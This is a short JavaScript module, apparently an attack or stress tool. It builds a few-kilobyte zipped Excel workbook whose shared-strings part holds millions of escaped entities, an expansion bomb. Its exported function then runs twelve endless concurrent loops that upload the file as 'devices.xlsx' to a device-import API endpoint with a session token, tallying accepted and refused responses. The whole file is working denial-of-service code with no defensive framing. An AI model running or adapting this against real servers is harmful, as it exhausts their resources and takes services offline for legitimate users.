// Workbooks of a few kilobytes with millions of entities, uploaded twelve at a time.
import { zipSync } from "fflate";

const atOnce = 12;
const text = (content) => Buffer.from(content);
const bomb = Buffer.from(
  zipSync({
    "xl/workbook.xml": text("<workbook/>"),
    "xl/sharedStrings.xml": text(`<sst><si><t>${"&lt;".repeat(4_900_000)}</t></si></sst>`),
    "xl/worksheets/sheet1.xml": text(
      '<worksheet><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData></worksheet>',
    ),
  }),
);

export function uploadBombs({ url, session, customerId }) {
  const done = { answered: 0, refused: 0 };
  const run = { stopped: false };
  const uploads = Array.from({ length: atOnce }, async () => {
    while (!run.stopped) {
      const body = new FormData();
      body.append("customerId", customerId);
      body.append("file", new Blob([new Uint8Array(bomb)]), "devices.xlsx");
      const answer = await fetch(`${url}/api/system/customerdevice/checkImport`, {
        method: "POST",
        headers: { "x-authorization": `Bearer ${session}` },
        body,
      });
      done[(await answer.json()).code === 200 ? "answered" : "refused"]++;
    }
  });
  return async () => {
    run.stopped = true;
    await Promise.all(uploads);
    return { bytes: bomb.length, ...done };
  };
}
